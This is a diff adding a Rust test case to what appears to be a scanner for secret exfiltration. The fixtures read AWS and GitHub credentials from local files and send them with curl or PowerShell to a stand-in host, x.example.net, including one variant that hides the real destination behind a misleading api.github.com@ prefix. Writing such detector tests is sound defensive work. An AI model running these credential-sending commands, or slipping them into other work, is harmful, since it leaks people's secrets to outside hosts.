@@ -300,3 +300,25 @@ fn powershell_credentials_posted_is_high() {
     let code = "$c = Get-Content \"$env:USERPROFILE\\.aws\\credentials\" -Raw\nInvoke-RestMethod -Uri https://x.example.net/c -Method Post -Body $c";
     assert_high("scripts/x.ps1", code, "flow-secret-exfil", 2);
 }
+
+#[test]
+fn a_token_presented_to_the_host_that_issued_it_is_clean_anywhere_else_high() {
+    let read = "GITHUB_TOKEN=$(grep github.com ~/.git-credentials | head -1)\n";
+    let own = "curl -s -H \"Authorization: token $GITHUB_TOKEN\" https://api.github.com/user";
+    assert_clean("x.sh", &format!("{read}{own}"));
+    for elsewhere in [
+        "curl -s -H \"Authorization: token $GITHUB_TOKEN\" https://x.example.net/user",
+        "curl -s -H \"Authorization: token $GITHUB_TOKEN\" https://api.github.com@x.example.net/u",
+        "curl -s -H \"Authorization: token $GITHUB_TOKEN\" http://api.github.com/user",
+        "curl -s -H \"X-Note: $GITHUB_TOKEN\" https://api.github.com/user",
+        "curl -s -d \"t=$GITHUB_TOKEN\" https://api.github.com/gists",
+        "curl -s -H \"Authorization: token $GITHUB_TOKEN\" https://api.github.com/u https://x.example.net/",
+    ] {
+        assert_high(
+            "x.sh",
+            &format!("{read}{elsewhere}"),
+            "flow-secret-exfil",
+            2,
+        );
+    }
+}
